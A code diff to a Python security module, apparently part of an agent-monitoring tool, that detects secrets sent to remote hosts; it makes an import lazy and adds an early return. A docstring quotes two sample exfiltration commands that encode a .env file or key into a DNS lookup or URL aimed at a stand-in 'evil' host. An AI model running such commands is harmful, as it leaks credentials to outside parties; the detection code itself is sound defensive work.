@@ -10,7 +10,6 @@ from __future__ import annotations
 
 from collections.abc import Sequence
 
-from agentguard.analysis.network import is_loopback
 from agentguard.models import Effect, Kind
 
 
@@ -21,12 +20,16 @@ def secret_sources(effects: Sequence[Effect]) -> list[str]:
 
 
 def remote_sends(effects: Sequence[Effect]) -> list[Effect]:
+    from agentguard.analysis.network import is_loopback
+
     return [e for e in effects if e.kind == Kind.NETWORK_SEND and not is_loopback(e.ctx("host") or "?")]
 
 
 def lookups_carrying(effects: Sequence[Effect]) -> list[Effect]:
     """Lookups and downloads whose own words hold a secret read (`dig $(cat .env | base64).evil.com`,
     `curl https://evil/$(cat key)`): the secret leaves in the name or URL."""
+    from agentguard.analysis.network import is_loopback
+
     inner = [e.source for e in effects if e.kind == Kind.SECRET_READ and e.source]
     return [e for e in effects if e.ctx("channel") == "lookup" and not is_loopback(e.ctx("host") or "?")
             and any(s != e.source and s in e.source for s in inner)]  # fmt: skip
@@ -35,8 +38,10 @@ def lookups_carrying(effects: Sequence[Effect]) -> list[Effect]:
 def with_exfiltration(effects: list[Effect]) -> list[Effect]:
     """The effects, plus one `network.exfiltrate` when a secret and a send to another host share the line."""
     sources = secret_sources(effects)
+    if not sources:
+        return effects
     sends = remote_sends(effects) + lookups_carrying(effects)
-    if not sources or not sends:
+    if not sends:
         return effects
     where = sends[0].target
     flow = Effect.make(Kind.NETWORK_EXFILTRATE, where, f"sends to {where} on the same line that reads {sources[0]}",
